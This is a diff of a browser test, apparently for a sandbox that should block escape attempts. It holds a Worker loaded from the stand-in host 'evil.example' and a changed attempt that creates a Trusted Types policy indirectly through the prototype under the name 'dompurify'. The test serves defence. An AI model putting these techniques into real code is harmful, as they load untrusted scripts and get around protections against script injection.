@@ -70,7 +70,10 @@ test.describe('the page', () => {
             `${location.origin}/modules/mfe-text-tools/9.9.9/entry.js`,
           ),
         worker: () => new Worker('https://evil.example/x.js'),
-        policy: () => Reflect.get(globalThis, 'trustedTypes').createPolicy('atelier', {}),
+        policy: () => {
+          const factory = Reflect.get(globalThis, 'trustedTypes');
+          return Object.getPrototypeOf(factory).createPolicy.call(factory, 'dompurify', {});
+        },
       };
       return Object.entries(attempts).map(([name, attempt]) => {
         try {
